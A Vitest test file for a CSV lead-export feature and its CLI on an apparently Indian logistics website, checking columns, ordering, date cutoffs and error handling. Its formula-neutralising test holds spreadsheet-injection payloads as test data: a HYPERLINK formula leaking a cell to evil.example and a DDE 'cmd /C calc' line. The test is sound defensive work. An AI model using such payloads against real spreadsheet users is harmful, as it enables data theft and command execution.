import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../db/client.js';
import { LOCK_FILE } from '../db/data-dir-lock.js';
import { dataRequests, partnerEnquiries } from '../db/schema.js';
import { LEAD_COLUMNS, LEAD_KINDS, type LeadKind, listLeads } from '../repositories/leads.js';
import { solvedCaptcha } from '../test/altcha.js';
import { buildTestApi, type TestApi } from '../test/api.js';
import { createTestDataDir, TEST_DRIVER } from '../test/database.js';
import { parseCsvRecords } from '../test/parse-csv.js';
import { newestSubmissionId, newsletterSubscriptionId, quoteRequest } from '../test/submissions.js';
import { writeLeadsCsv } from './csv.js';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const TRICKY_MESSAGE =
  'We run 40 trucks, all "BS-VI",\nout of Surat and Vapi;\nplease call after 6, thanks.';

describe('the lead export on submissions stored through the API', () => {
  let api: TestApi;
  const ids: Record<
    'vendor' | 'partnerBefore' | 'partnerOnDay' | 'contact' | 'newsletter' | 'quote',
    number
  > = {
    quote: 0,
    vendor: 0,
    partnerBefore: 0,
    partnerOnDay: 0,
    contact: 0,
    newsletter: 0,
  };

  async function store(
    url: Parameters<typeof newestSubmissionId>[1],
    body: Record<string, unknown>,
  ): Promise<number> {
    const captcha = url === '/api/store/newsletter' ? undefined : await solvedCaptcha(api.app);
    const response = await api.app.inject({
      method: 'POST',
      url,
      payload: { ...body, consent: true, captcha },
    });
    expect(response.statusCode, response.body).toBe(201);
    return newestSubmissionId(api.database.db, url);
  }

  async function exportCsv(kind: LeadKind, since?: string) {
    let text = '';
    const out = new Writable({
      write(chunk: Buffer, _encoding, done) {
        text += chunk.toString();
        done();
      },
    });
    const count = await writeLeadsCsv(api.database.db, kind, since, out);
    return { count, text, ...parseCsvRecords(text) };
  }

  beforeAll(async () => {
    api = await buildTestApi({
      rateLimits: { windowMs: 60_000, submissions: 1_000, requests: 1_000 },
    });
    ids.vendor = await store('/api/store/partner', {
      type: 1,
      name: 'Suresh Fuels',
      email: 'suresh@example.in',
      mobile: '+91 98765 11111',
      vendor_type: 'Fuel Partner',
      business_type: 'Franchise partner',
      message: 'Diesel supply on the NH48.',
      // Sent from a Hindi page: the export names the language in English.
      locale: 'hi',
    });
    ids.partnerBefore = await store('/api/store/partner', {
      type: 2,
      name: FORMULA_NAME,
      email: 'mallory@example.in',
      mobile: '9876522222',
      business_type: 'Register Warehouse',
      message: '@SUM(1+1)*cmd|" /C calc"!A0',
    });
    ids.partnerOnDay = await store('/api/store/partner', {
      type: 2,
      name: 'Patel, Ravi',
      email: 'ravi@example.in',
      mobile: '9876533333',
      business_type: 'Franchise partner',
      message: TRICKY_MESSAGE,
    });
    ids.contact = await store('/api/store/contact', {
      username: 'Anita Rao',
      email: 'anita@example.in',
      phone: '9876544444',
      subject: '-Rates for Pune',
      message: 'Part load, weekly.',
    });
    await store('/api/store/newsletter', { email: 'reader@example.in' });
    ids.newsletter = await newsletterSubscriptionId(api.database.db, 'reader@example.in');
    ids.quote = await store('/api/store/quote', quoteRequest({ service: 'Warehousing' }));

    const db = api.database.db;
    // A data request proved by its code (the API's steps are tested in routes/store/data-request.test.ts).
    const proved = new Date().toISOString();
    await db.insert(dataRequests).values({
      reference: 'DR-LEAD-0001',
      right: 'access',
      email: 'asker@example.in',
      consentVersion: '2026-11',
      consentedAt: proved,
      verifiedAt: proved,
      dueAt: proved,
    });

    // The last moment of 14 January and the first of 15 January 2026 in India (UTC+05:30).
    await db
      .update(partnerEnquiries)
      .set({ createdAt: '2026-01-14T18:29:59.999Z' })
      .where(eq(partnerEnquiries.id, ids.partnerBefore));
    await db
      .update(partnerEnquiries)
      .set({ createdAt: '2026-01-14T18:30:00Z' })
      .where(eq(partnerEnquiries.id, ids.partnerOnDay));
    await db
      .update(partnerEnquiries)
      .set({ createdAt: '2026-01-10T06:30:00Z' })
      .where(eq(partnerEnquiries.id, ids.vendor));
  });
  afterAll(async () => {
    await api?.close();
  });

  it('gives every lead the columns of its kind, which are the header', async () => {
    for (const kind of LEAD_KINDS) {
      const leads = await listLeads(api.database.db, kind);
      expect(leads.length, kind).toBeGreaterThan(0);
      for (const lead of leads) expect(Object.keys(lead), kind).toEqual(LEAD_COLUMNS[kind]);
      expect((await exportCsv(kind)).header, kind).toEqual(LEAD_COLUMNS[kind]);
    }
  });

  it('exports vendors (type 1) and business partners (type 2) apart, oldest first', async () => {
    const vendors = await exportCsv('vendor');
    expect(vendors.count).toBe(1);
    expect(vendors.records).toEqual([
      {
        id: String(ids.vendor),
        received_at: '2026-01-10T12:00:00+05:30',
        name: 'Suresh Fuels',
        email: 'suresh@example.in',
        mobile: `'+91 98765 11111`,
        vendor_type: 'Fuel Partner',
        message: 'Diesel supply on the NH48.',
        language: 'Hindi',
        consent_version: expect.stringMatching(/^\d{4}-\d{2}$/),
        consented_at: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+05:30$/),
      },
    ]);

    const partners = await exportCsv('partner');
    expect(partners.count).toBe(2);
    expect(partners.records.map((r) => [r.id, r.business_type, r.language])).toEqual([
      [String(ids.partnerBefore), 'Register Warehouse', 'English'],
      [String(ids.partnerOnDay), 'Franchise partner', 'English'],
    ]);
  });

  it('exports quote requests with their measures, add-ons and the service named', async () => {
    const quotes = await exportCsv('quote');
    expect(quotes.count).toBe(1);
    expect(quotes.records[0]).toMatchObject({
      id: String(ids.quote),
      name: 'Meera Shah',
      phone: `'+91 98250 12345`,
      service: 'Warehousing',
      freight_type: 'Road',
      departure_city: 'Ahmedabad',
      delivery_city: 'Kolkata',
      incoterms: 'DAP',
      weight_kg: '1250',
      height_cm: '120',
      width_cm: '100',
      length_cm: '240',
      fragile: 'yes',
      express_delivery: 'no',
      insurance: 'yes',
      packaging: 'no',
    });
  });

  it('neutralises formulas and keeps commas, quotes and line breaks', async () => {
    const { records, text } = await exportCsv('partner');
    const [mallory, ravi] = records;
    expect(mallory!.name).toBe(`'${FORMULA_NAME}`);
    expect(mallory!.message).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(ravi!.name).toBe('Patel, Ravi');
    expect(ravi!.message).toBe(TRICKY_MESSAGE);
    // No field anywhere starts with a formula character.
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);

    const [contact] = (await exportCsv('contact')).records;
    expect(contact).toMatchObject({
      id: String(ids.contact),
      name: 'Anita Rao',
      phone: `'+91 98765 44444`,
      subject: "'-Rates for Pune",
    });
    const [reader] = (await exportCsv('newsletter')).records;
    expect(reader).toMatchObject({ id: String(ids.newsletter), email: 'reader@example.in' });
  });

  it('keeps, with --since, what came in from the start of that day in India', async () => {
    const onDay = await exportCsv('partner', '2026-01-15');
    expect(onDay.records.map((r) => [r.id, r.received_at])).toEqual([
      [String(ids.partnerOnDay), '2026-01-15T00:00:00+05:30'],
    ]);

    const dayBefore = await exportCsv('partner', '2026-01-14');
    expect(dayBefore.records.map((r) => [r.id, r.received_at])).toEqual([
      [String(ids.partnerBefore), '2026-01-14T23:59:59+05:30'],
      [String(ids.partnerOnDay), '2026-01-15T00:00:00+05:30'],
    ]);

    const later = await exportCsv('partner', '2026-01-16');
    expect(later.count).toBe(0);
    expect(later.text).toBe(`${LEAD_COLUMNS.partner.join(',')}\r\n`);

    // The ones stored just now are today's, whatever the day.
    expect((await exportCsv('contact', '2026-01-16')).count).toBe(1);
    expect((await exportCsv('vendor', '2026-01-11')).count).toBe(0);
  });
});

const cliEntry = fileURLToPath(new URL('./leads.ts', import.meta.url));

/** Runs `npm run leads` from the TypeScript source, as its user would, with a time limit. */
function runCli(
  args: string[],
  env: NodeJS.ProcessEnv,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(
    process.execPath,
    ['--import', 'tsx', '--conditions=source', cliEntry, ...args],
    {
      env: { ...process.env, DATABASE_URL: '', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  const timer = setTimeout(() => child.kill('SIGKILL'), 45_000);
  return new Promise((resolve) => {
    child.once('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

describe.runIf(TEST_DRIVER === 'pglite')('npm run leads', () => {
  let dataDir: string;
  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'harsh-leads-'));
  });
  afterAll(async () => {
    await rm(dataDir, { recursive: true, force: true });
  });

  it.each([
    [[]],
    [['--kind', 'customers']],
    [['--kind', 'partner', '--since', '2026-02-30']],
    [['--kind', 'partner', 'extra']],
  ])('answers the arguments %j with the usage on stderr and exit code 2', async (args) => {
    const { code, stdout, stderr } = await runCli(args, { DATA_DIR: dataDir });
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toContain(
      'Usage: npm run -s leads -- --kind <partner|vendor|contact|newsletter|quote|comment|data_request> [--since YYYY-MM-DD]',
    );
    expect(stderr).not.toMatch(/\n\s+at /);
  });

  it('says so, with exit code 1, when there is no database or the server has it open', async () => {
    const missing = await runCli(['--kind', 'partner'], { DATA_DIR: join(dataDir, 'nowhere') });
    expect(missing).toMatchObject({ code: 1, stdout: '' });
    expect(missing.stderr).toContain(`There is no database in ${join(dataDir, 'nowhere')}`);

    // This test process stands in for a running server holding the directory.
    await writeFile(join(dataDir, LOCK_FILE), String(process.pid));
    const busy = await runCli(['--kind', 'partner'], { DATA_DIR: dataDir });
    await rm(join(dataDir, LOCK_FILE));
    expect(busy).toMatchObject({ code: 1, stdout: '' });
    expect(busy.stderr).toContain(`The database in ${dataDir} is in use by process ${process.pid}`);
    expect(busy.stderr).not.toMatch(/\n\s+at /);
  });

  it('prints only CSV on stdout', async () => {
    await createTestDataDir(dataDir);
    const database = await openDatabase({ dataDir });
    await database.db.insert(partnerEnquiries).values({
      type: 2,
      name: FORMULA_NAME,
      email: 'mallory@example.in',
      mobile: '9876522222',
      message: TRICKY_MESSAGE,
      consentVersion: '2026-11',
      consentedAt: new Date().toISOString(),
    });
    await database.close();

    const { code, stdout, stderr } = await runCli(['--kind', 'partner'], { DATA_DIR: dataDir });
    expect(code, stderr).toBe(0);
    const { header, records } = parseCsvRecords(stdout);
    expect(header).toEqual(LEAD_COLUMNS.partner);
    expect(records).toMatchObject([{ name: `'${FORMULA_NAME}`, message: TRICKY_MESSAGE }]);
    expect(stderr).toContain(`1 partner lead from ${dataDir}.`);

    const none = await runCli(['--kind', 'vendor', '--since', '2026-01-01'], { DATA_DIR: dataDir });
    expect(none).toMatchObject({ code: 0, stdout: `${LEAD_COLUMNS.vendor.join(',')}\r\n` });
  }, 60_000);
});
